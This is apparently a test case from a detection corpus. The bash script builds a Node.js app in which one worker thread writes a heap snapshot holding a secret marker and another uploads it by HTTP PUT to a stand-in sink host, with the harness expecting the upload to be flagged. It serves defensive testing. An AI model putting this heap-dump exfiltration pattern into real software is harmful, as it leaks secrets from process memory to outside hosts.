#!/bin/bash
# A-node-worker: a worker thread of node writes a snapshot of its own heap, while the main thread writes other files.
# flow: v8.writeHeapSnapshot() in a worker: one process writes a dump and logs at the same time, by threads of their own;
#   another thread of it reads the dump and sends.
# tools: node
# expect: sent counted port critical
. "$CORPUS/lib.sh"
cat >app.js <<'END'
const { Worker, isMainThread, workerData, parentPort } = require('worker_threads');
const [secret, host, port] = process.argv.slice(2);
const fs = require('fs');
if (isMainThread) {
    const log = fs.createWriteStream('app.log');
    const beat = setInterval(() => log.write(`${Date.now()} alive\n`.repeat(200)), 5);
    const run = (data) => new Promise((done, failed) => {
        new Worker(__filename, { workerData: data, argv: process.argv.slice(2) })
            .on('error', failed).on('exit', done);
    });
    run('dump').then(() => run('send')).then(() => { clearInterval(beat); log.end(); });
} else if (workerData === 'dump') {
    globalThis.held = [secret, 'x'.repeat(1000)];
    require('v8').writeHeapSnapshot('worker.heap');
} else {
    const request = require('http').request({ host, port, method: 'PUT', path: '/up',
        headers: { 'Content-Length': fs.statSync('worker.heap').size } }, (answer) => answer.resume());
    fs.createReadStream('worker.heap').pipe(request);
}
END
sink http
node app.js "$MARKER" "$SINK" "$PORT" || fail "node failed"
made worker.heap
sunk 100000
